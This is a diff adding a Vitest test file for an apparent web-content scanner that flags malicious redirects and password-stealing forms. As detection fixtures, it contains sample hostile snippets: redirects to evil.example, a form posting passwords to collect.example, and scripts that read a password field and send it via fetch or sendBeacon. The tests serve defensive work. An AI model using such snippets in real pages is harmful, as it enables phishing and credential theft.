@@ -0,0 +1,53 @@
+import { describe, expect, it } from 'vitest';
+import { analyzeWebContent } from '../services/webContent';
+
+const ids = (script: string) => analyzeWebContent(`<script>${script}</script>`, 'html').map(f => f.id);
+
+describe('web-script-redirect', () => {
+  it('flags the page location set to another site', () => {
+    expect(ids('window.location = "https://evil.example/login";')).toContain('web-script-redirect');
+    expect(ids('top.location.replace("//evil.example");')).toContain('web-script-redirect');
+    expect(ids('document.location.href="http://evil.example"')).toContain('web-script-redirect');
+  });
+
+  it('leaves ordinary navigation and local variables alone', () => {
+    expect(ids('let location = getLocation(); location = "x";')).toEqual([]);
+    expect(ids('window.location.href = "/home";')).toEqual([]);
+    expect(ids('if (window.location == "https://a.example") {}')).toEqual([]);
+  });
+});
+
+describe('web-password-form', () => {
+  const passwordFindings = (html: string) => analyzeWebContent(html, 'html')
+    .filter(f => f.id.startsWith('web-password-'))
+    .map(f => `${f.id}:${f.severity}`);
+
+  it('treats a login form posting to its own site as a caution', () => {
+    const page = [
+      '<form action="/login" method="post">',
+      '  <input type="text" name="user"><input type="password" name="pass" id="pass">',
+      '  <button>Sign in</button>',
+      '</form>',
+      '<script>fetch("/api/news").then(r => r.json()).then(render);</script>'
+    ].join('\n');
+    expect(passwordFindings(page)).toEqual(['web-password-field:CAUTION']);
+  });
+
+  it('flags a form that posts the password to another site', () => {
+    const page = '<form action="https://collect.example/p.php"><input type="password" name="p"></form>';
+    expect(passwordFindings(page)).toEqual(['web-password-form:DANGER']);
+  });
+
+  it('flags a script that reads the password and sends it', () => {
+    const page = [
+      '<form><input type="password" id="pw"></form>',
+      '<script>',
+      'const p = document.getElementById("pw").value;',
+      'fetch("/x", { method: "POST", body: p });',
+      '</script>'
+    ].join('\n');
+    expect(passwordFindings(page)).toEqual(['web-password-form:DANGER']);
+    expect(passwordFindings('<form><input type="password"></form><script>navigator.sendBeacon("/b", new FormData(document.forms[0]));</script>'))
+      .toEqual(['web-password-form:DANGER']);
+  });
+});